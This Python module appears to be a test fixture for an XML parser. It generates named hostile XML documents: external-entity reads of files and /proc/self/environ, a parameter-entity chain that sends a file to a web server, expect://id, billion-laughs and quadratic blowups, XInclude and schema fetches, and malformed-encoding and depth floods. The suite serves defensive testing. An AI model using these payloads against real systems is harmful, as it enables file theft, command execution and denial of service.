"""Hostile XML of our own making: each kind by its name, around any root element.

`{file}` stands for a file and `{web}` for a server that must hear nothing; a document that was
resolved anywhere would hold the file's words or leave a trace at the server.
"""

from collections.abc import Iterator
from dataclasses import dataclass

SECRET = "canario-que-nadie-lee"
"""What the canary file holds."""

XSI = "http://www.w3.org/2001/XMLSchema-instance"
MANY = 20_000
"""How often the floods repeat."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """`before` stands before the root element, `inside` in it, `on` among its attributes, `after` behind it."""

    name: str
    before: str = ""
    inside: str = ""
    on: str = ""
    after: str = ""
    encoding: str = "utf-8"
    mark: bytes = b""
    raw: bytes | None = None
    """Takes the place of the text `@@` after encoding, for bytes that no encoder writes."""

    def bytes(self, start: str, end: str, *, file: str, web: str) -> bytes:
        """Give the document with a root whose start tag lacks its `>`."""
        text = f"{self.before}{start} {self.on}>{self.inside}{end}{self.after}"
        data = text.replace("{file}", file).replace("{web}", web).encode(self.encoding, "surrogatepass")
        return self.mark + (data if self.raw is None else data.replace(b"@@", self.raw))


def _doctype(inside: str, *, name: str = "a", external: str = "") -> str:
    return f"<!DOCTYPE {name} {external}[{inside}]>"


def _entities() -> Iterator[Hostile]:
    systems = {
        "a-file": "{file}", "a-file-address": "file://{file}", "a-web-address": "{web}/e", "ftp": "ftp://127.0.0.1:1/e",
        "a-share": "//127.0.0.1/share/e", "a-data-address": "data:text/plain,x", "a-jar": "jar:{web}/e.jar!/e",
        "a-php-filter": "php://filter/read=convert.base64-encode/resource={file}", "netdoc": "netdoc:{file}",
        "a-device": "/dev/zero", "the-process": "file:///proc/self/environ", "gopher": "gopher://127.0.0.1:1/e",
        "a-path-upwards": "../../../../..{file}", "an-expect": "expect://id",
    }  # fmt: skip
    for name, system in systems.items():
        entity = f"<!ENTITY e SYSTEM '{system}'>"
        yield Hostile(name=f"entity-of-{name}", before=_doctype(entity), inside="&e;")
    yield Hostile(name="entity-by-public-name", before=_doctype("<!ENTITY e PUBLIC 'x' '{web}/e'>"), inside="&e;")
    yield Hostile(name="entity-within", before=_doctype("<!ENTITY e 'x'>"), inside="&e;")
    yield Hostile(name="entity-with-markup", before=_doctype("<!ENTITY e '<b>x</b>'>"), inside="&e;")
    yield Hostile(name="entity-in-an-attribute", before=_doctype("<!ENTITY e 'x'>"), on="x='&e;'")
    yield Hostile(
        name="entity-unparsed", before=_doctype("<!NOTATION n SYSTEM 'n'><!ENTITY e SYSTEM '{web}/e' NDATA n>")
    )
    yield Hostile(name="entity-of-a-parameter", before=_doctype("<!ENTITY % p SYSTEM '{web}/p'>%p;"))
    yield Hostile(
        name="entity-that-carries-a-file-away",
        before=_doctype("<!ENTITY % f SYSTEM '{file}'><!ENTITY % p SYSTEM '{web}/p'>%p;%f;"),
    )
    yield Hostile(name="entity-nobody-declares", inside="&nadie;")
    yield Hostile(name="entity-half-written", inside="&e")
    yield Hostile(name="default-attribute", before=_doctype("<!ATTLIST a b CDATA 'x'>"))
    yield Hostile(name="default-attribute-of-an-entity", before=_doctype("<!ENTITY e 'x'><!ATTLIST a b CDATA '&e;'>"))
    yield Hostile(name="dtd-of-a-web-address", before="<!DOCTYPE a SYSTEM '{web}/d'>")
    yield Hostile(name="dtd-of-a-file", before="<!DOCTYPE a SYSTEM '{file}'>")
    yield Hostile(name="dtd-by-public-name", before="<!DOCTYPE a PUBLIC '-//W3C//DTD XHTML 1.0//EN' '{web}/d'>")
    yield Hostile(
        name="dtd-in-both-places", before=_doctype("<!ENTITY e 'x'>", external="SYSTEM '{web}/d' "), inside="&e;"
    )
    yield Hostile(name="dtd-with-a-conditional-section", before=_doctype("<![INCLUDE[<!ENTITY e 'x'>]]>"), inside="&e;")
    yield Hostile(name="doctype-alone", before="<!DOCTYPE a>")
    yield Hostile(name="doctype-in-small-letters", before="<!doctype a>")
    yield Hostile(name="doctype-after-comments", before="<!-- <a> --><?p <a> ?><!-- x --><!DOCTYPE a>")
    yield Hostile(name="doctype-inside", inside="<!DOCTYPE a>")
    yield Hostile(name="doctype-behind", after="<!DOCTYPE a>")
    yield Hostile(name="entity-declared-inside", inside="<!ENTITY e 'x'>")


def _laughs() -> Iterator[Hostile]:
    general = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10 if n else 'ja'}'>" for n in range(12))
    parameter = "".join(f"<!ENTITY % e{n} '{f'%e{n - 1};' * 10 if n else 'ja'}'>" for n in range(12))
    yield Hostile(name="laughs", before=_doctype(general), inside="&e11;")
    yield Hostile(name="laughs-in-an-attribute", before=_doctype(general), on="x='&e11;'")
    yield Hostile(name="laughs-of-parameters", before=_doctype(parameter + "%e11;"))
    yield Hostile(name="laughs-in-a-default", before=_doctype(general + "<!ATTLIST a b CDATA '&e11;'>"))
    yield Hostile(
        name="laughs-that-are-quadratic", before=_doctype(f"<!ENTITY e '{'ja' * 50_000}'>"), inside="&e;" * MANY
    )
    yield Hostile(name="laughs-in-a-circle", before=_doctype("<!ENTITY a '&b;'><!ENTITY b '&a;'>"), inside="&a;")
    yield Hostile(name="laughs-at-itself", before=_doctype("<!ENTITY a '&a;'>"), inside="&a;")
    yield Hostile(name="laughs-in-utf-16", before=_doctype(general), inside="&e11;", encoding="utf-16")


def _charsets() -> Iterator[Hostile]:
    hidden = _doctype("<!ENTITY e SYSTEM '{file}'>")
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"):
        yield Hostile(name=f"hidden-in-{encoding}", before=hidden, inside="&e;", encoding=encoding)
    for encoding in ("cp037", "cp500", "cp1140", "utf-7"):
        declared = f"<?xml version='1.0' encoding='{encoding}'?>"
        yield Hostile(name=f"hidden-in-{encoding}", before=declared + hidden, inside="&e;", encoding=encoding)
    for name in ("utf-7", "cp037", "iso-2022-jp", "iso-2022-kr", "hz", "utf-8-sig", "unicode_escape", "idna", "base64"):
        declared = f"<?xml version='1.0' encoding='{name}'?>"
        yield Hostile(name=f"said-to-be-{name}", before=f"{declared}+ADwAIQ-DOCTYPE a+AD4-")
    yield Hostile(name="charset-of-a-kilometre", before=f"<?xml version='1.0' encoding='{'x' * 9000}'?>")
    yield Hostile(name="charset-with-a-quote", before="<?xml version='1.0' encoding='utf-8\"'?>")
    yield Hostile(name="two-marks", mark=b"\xef\xbb\xbf\xef\xbb\xbf")
    yield Hostile(name="mark-of-utf-16-before-utf-8", mark=b"\xff\xfe")
    yield Hostile(name="mark-of-utf-8-before-utf-16", mark=b"\xef\xbb\xbf", encoding="utf-16-le")
    yield Hostile(name="mark-in-the-middle", inside="\ufeff<\ufeffb/>")
    yield Hostile(name="overlong-less-than", before="@@!DOCTYPE a>", raw=b"\xc0\xbc")
    yield Hostile(name="overlong-nul", inside="@@", raw=b"\xc0\x80")
    yield Hostile(name="five-byte-letter", inside="@@", raw=b"\xf8\x88\x80\x80\x80")
    yield Hostile(name="beyond-unicode", inside="@@", raw=b"\xf4\x90\x80\x80")
    yield Hostile(name="lonely-continuation", inside="@@", raw=b"\x80")
    yield Hostile(name="surrogates-in-utf-8", inside="@@", raw=b"\xed\xa0\x80\xed\xb0\x80")
    yield Hostile(name="nul-in-a-text", inside="@@", raw=b"\0")
    yield Hostile(name="nul-in-a-tag", inside="<b@@/>", raw=b"\0")
    yield Hostile(name="control-character", inside="\x01")
    yield Hostile(name="no-character", inside="\ufffe")
    for number in ("0", "x1", "xD800", "xFFFE", "x110000", "xFFFFFFFFFF", "99999999999999999999", "-1", "x"):
        yield Hostile(name=f"reference-to-{number}", inside=f"&#{number};")
    yield Hostile(name="xml-1.1-with-controls", before="<?xml version='1.1'?>", inside="&#1;")
    yield Hostile(name="xml-9.9", before="<?xml version='9.9'?>")
    yield Hostile(name="declaration-twice", before="<?xml version='1.0'?><?xml version='1.0'?>")
    yield Hostile(name="standalone", before="<?xml version='1.0' standalone='no'?>" + hidden, inside="&e;")


def _fetches() -> Iterator[Hostile]:
    include = "xmlns:xi='http://www.w3.org/2001/XInclude'"
    yield Hostile(name="xinclude-of-a-text", inside=f"<xi:include {include} href='{{file}}' parse='text'/>")
    yield Hostile(name="xinclude-of-xml", inside=f"<xi:include {include} href='{{web}}/x'/>")
    fallback = "<xi:fallback><xi:include href='{web}/x'/></xi:fallback>"
    yield Hostile(name="xinclude-with-a-fallback", inside=f"<xi:include {include} href='none'>{fallback}</xi:include>")
    yield Hostile(name="schema-location", on=f"xmlns:xsi='{XSI}' xsi:schemaLocation='urn:a {{web}}/s.xsd'")
    yield Hostile(name="schema-without-a-namespace", on=f"xmlns:xsi='{XSI}' xsi:noNamespaceSchemaLocation='{{file}}'")
    yield Hostile(name="style-sheet", before="<?xml-stylesheet type='text/xsl' href='{web}/s.xsl'?>")
    yield Hostile(name="model", before="<?xml-model href='{web}/m.rng'?>")
    yield Hostile(name="catalogue", before="<?oasis-xml-catalog catalog='{web}/c.xml'?>")
    yield Hostile(name="php", before="<?php readfile('{file}'); ?>")
    yield Hostile(name="base-elsewhere", on="xml:base='{web}/'", inside=f"<xi:include {include} href='x'/>")
    yield Hostile(
        name="link",
        inside="<l xmlns:l='http://www.w3.org/1999/xlink' l:type='simple' l:href='{web}/l' l:actuate='onLoad'/>",
    )
    yield Hostile(
        name="transformation",
        inside="<x:copy-of xmlns:x='http://www.w3.org/1999/XSL/Transform' select=\"document('{file}')\"/>",
    )
    wsdl, xs = "http://schemas.xmlsoap.org/wsdl/", "http://www.w3.org/2001/XMLSchema"
    for name, place in (("a-file", "{file}"), ("a-file-address", "file://{file}"), ("a-web-address", "{web}/i")):
        yield Hostile(
            name=f"import-of-{name}", inside=f"<w:import xmlns:w='{wsdl}' namespace='urn:a' location='{place}'/>"
        )
        schema = f"<s:schema xmlns:s='{xs}'><s:include schemaLocation='{place}'/></s:schema>"
        yield Hostile(name=f"include-of-{name}", inside=f"<w:types xmlns:w='{wsdl}'>{schema}</w:types>")


def _floods() -> Iterator[Hostile]:
    yield Hostile(name="deep", inside="<b>" * MANY + "</b>" * MANY)
    yield Hostile(name="deep-and-never-closed", inside="<b>" * MANY)
    yield Hostile(name="deep-with-namespaces", inside="".join(f"<b xmlns='urn:{n}'>" for n in range(MANY)))
    yield Hostile(name="wide", inside="<b/>" * MANY * 5)
    attributes = " ".join(f"a{n}=''" for n in range(MANY))
    namespaces = " ".join(f"xmlns:n{n}='u'" for n in range(MANY))
    yield Hostile(name="many-attributes", inside=f"<b {attributes}/>")
    yield Hostile(name="many-namespaces", inside=f"<b {namespaces}/>")
    yield Hostile(name="a-name-without-end", inside=f"<{'b' * 200_000}/>")
    yield Hostile(name="an-attribute-without-end", inside=f"<b c='{'d' * 2_000_000}'/>")
    yield Hostile(name="a-text-without-end", inside="t" * 11_000_000)
    yield Hostile(name="a-cdata-without-end", inside="<![CDATA[" + "t" * 200_000)
    yield Hostile(name="a-comment-without-end", before="<!--" + "t" * 200_000)
    yield Hostile(name="an-instruction-without-end", before="<?p " + "t" * 200_000)
    yield Hostile(name="many-comments", before="<!---->" * MANY)
    yield Hostile(name="many-instructions", before="<?p ?>" * MANY)
    yield Hostile(name="many-references", inside="&#65;" * MANY * 5)
    yield Hostile(name="many-mistakes", inside="<b></c>" * MANY)
    yield Hostile(name="an-attribute-twice", inside="<b c='' c=''/>")
    yield Hostile(name="an-attribute-twice-by-namespace", inside="<b xmlns:m='u' xmlns:n='u' m:c='' n:c=''/>")
    yield Hostile(name="prefix-nobody-declares", inside="<nadie:b/>")
    yield Hostile(name="prefix-undeclared", inside="<b xmlns:n=''><n:c/></b>")
    yield Hostile(name="prefix-xml-elsewhere", inside="<b xmlns:xml='urn:x'/>")
    yield Hostile(name="prefix-xmlns", inside="<b xmlns:xmlns='urn:x'/>")
    yield Hostile(name="two-roots", after="<b/>")
    yield Hostile(name="text-behind", after="texto")
    yield Hostile(name="tags-that-cross", inside="<b><c></b></c>")
    yield Hostile(name="less-than-in-an-attribute", inside="<b c='<'/>")
    yield Hostile(name="end-of-cdata-in-a-text", inside="]]>")
    yield Hostile(name="two-dashes-in-a-comment", inside="<!-- -- -->")


KINDS: tuple[Hostile, ...] = (*_entities(), *_laughs(), *_charsets(), *_fetches(), *_floods())
"""Every kind, each with a name of its own."""
